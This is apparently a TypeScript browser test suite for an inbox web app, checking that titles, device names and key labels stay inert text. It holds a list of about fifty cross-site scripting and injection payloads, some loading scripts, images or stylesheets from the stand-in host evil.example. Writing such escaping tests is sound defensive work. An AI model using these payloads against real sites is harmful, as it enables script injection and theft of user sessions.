// Untrusted text stays text everywhere: it does not execute, load anything or become markup.
import assert from 'node:assert/strict';
import { suite, type TestContext } from 'node:test';
import type { Page } from 'playwright-core';
import { openInbox } from './support/browser.ts';

const call = 'window.__xss=1';
const payloads = [
  `<script>${call}</script>`,
  `"><script>${call}</script>`,
  `</title></textarea></style></script><script>${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<img src=x onerror="${call}">`,
  `<img src="https://evil.example/pixel.png">`,
  `<IMG """><SCRIPT>${call}</SCRIPT>">`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<math><mtext><img src=x onerror=${call}></mtext></math>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<object data="data:text/html,<script>${call}</script>"></object>`,
  `<embed src="javascript:${call}">`,
  `<body onload=${call}>`,
  `<details open ontoggle=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<marquee onstart=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<form action="javascript:${call}"><button>x</button></form>`,
  `<a href="javascript:${call}">click</a>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/y)}</style>`,
  `<template shadowrootmode=open><script>${call}</script></template>`,
  `javascript:${call}`,
  `JaVaScRiPt:${call}//https://a.example`,
  `java\tscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `vbscript:${call}`,
  `https://a.example/"onmouseover="${call}`,
  `https://a.example/' autofocus onfocus='${call}`,
  `https://user:pass@evil.example/`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `<%= ${call} %>`,
  `#{${call}}`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `\u202e<script>${call}</script>\u202d`,
  `\u2066https://a.example/\u202egpj.evil`,
  `\ud800<img src=x onerror=${call}>\udfff`,
  `\u0000<script>${call}</script>`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `<!--><img src=x onerror=${call}>-->`,
  `]]><script>${call}</script>`,
  `__proto__`,
  `constructor`,
  `toString`,
];

/** Whether the title is shown unchanged: lone surrogates, control characters and bidi controls are replaced or removed. */
const isPlain = (payload: string): boolean =>
  payload.isWellFormed() && !/[\p{Cc}\u202a-\u202e\u2066-\u2069]/u.test(payload);

/** Elements and attributes that these pages never contain, and that would be active. */
const forbiddenSelectors = [
  'script:not([src^="/assets/"])',
  'iframe',
  'object',
  'embed',
  'video',
  'audio',
  'base',
  'form',
  'math',
  'marquee',
  'template',
  'meta[http-equiv]',
  'style',
  'img:not([src="/icon.svg"])',
  'link[href*="evil"]',
  '[onerror]',
  '[onload]',
  '[onfocus]',
  '[onmouseover]',
  '.inbox details',
  '.inbox script',
];

suite('Untrusted text', () => {
  const site = openInbox();

  /** Policy violations, errors and requests to other hosts fail the test, see watchPages. */
  async function open(t: TestContext, path: string): Promise<Page> {
    const page = await site.newPage(t, { signedIn: true });
    page.on('dialog', (dialog) => {
      void dialog.dismiss();
      assert.fail(`a dialog was opened: ${dialog.message()}`);
    });
    await page.goto(path);
    return page;
  }

  async function expectHarmless(page: Page, where: string): Promise<void> {
    const { ran, found, links } = await page.evaluate(
      (selectors) => ({
        ran: (window as { __xss?: unknown }).__xss,
        found: selectors.filter((selector) => document.querySelector(selector) !== null),
        links: [...document.querySelectorAll('a')].map((link) => link.href).filter((href) => !/^https?:/.test(href)),
      }),
      forbiddenSelectors,
    );
    assert.deepEqual({ ran, found, links }, { ran: undefined, found: [], links: [] }, where);
  }

  site.test('stays text in the list, in the detail and in a search', async (t) => {
    for (const payload of payloads) {
      // Parsed from JSON, so that __proto__ is an ordinary key.
      const data = JSON.parse(`{${JSON.stringify(payload)}:${JSON.stringify(payload)}}`);
      Object.assign(data, { list: [payload, { [`k${payload}`]: [payload] }] });
      await site.post({ title: payload, body: payload, source: payload, data, sendMqtt: false });
    }
    const client = await site.owner();
    for (const payload of payloads.slice(0, 12)) {
      await client.post('/api/devices', { name: payload.slice(0, 60) });
      await client.post('/api/keys', {
        type: 'public_client',
        label: payload.slice(0, 60),
        allowedDomains: [],
        requireSignature: false,
        rateLimit: null,
        expiresAt: null,
      });
    }
    const page = await open(t, '/');
    await page.locator('.inbox-row').first().waitFor();
    await page.locator('.inbox-scroller').evaluate((element) => element.scrollTo(0, element.scrollHeight));
    await page.getByText('No older notifications.').waitFor();
    assert.equal(await page.locator('.inbox-row').count(), payloads.length);
    await expectHarmless(page, 'list');
    // Opens every notification, newest first.
    await page.locator('.inbox-row a').first().click();
    for (const payload of payloads.toReversed()) {
      const shown = page.locator('.inbox-data').filter({ hasText: 'list' });
      await shown.waitFor();
      await expectHarmless(page, payload);
      const words = await page.locator('.inbox-detail h2').textContent();
      if (isPlain(payload)) assert.equal(words, payload);
      const id = page.url();
      await page.keyboard.press('j');
      if (payload !== payloads[0]) await page.waitForURL((url) => url.href !== id);
    }
    assert.equal(await page.getByRole('button', { name: 'Older' }).isEnabled(), false, 'all were opened');
  });

  site.test('stays text when it is searched for', async (t) => {
    const page = await open(t, '/');
    for (const query of [payloads[0], payloads[5], payloads[37], payloads[41]] as string[]) {
      await page.goto(`/?${new URLSearchParams({ q: query })}`);
      await page.locator('.inbox-row mark').first().waitFor();
      await expectHarmless(page, query);
    }
  });

  site.test('stays text in the names of devices and keys', async (t) => {
    for (const path of ['/devices', '/keys']) {
      const page = await open(t, path);
      await page
        .getByText(payloads[1] as string)
        .first()
        .waitFor();
      await expectHarmless(page, path);
    }
  });
});
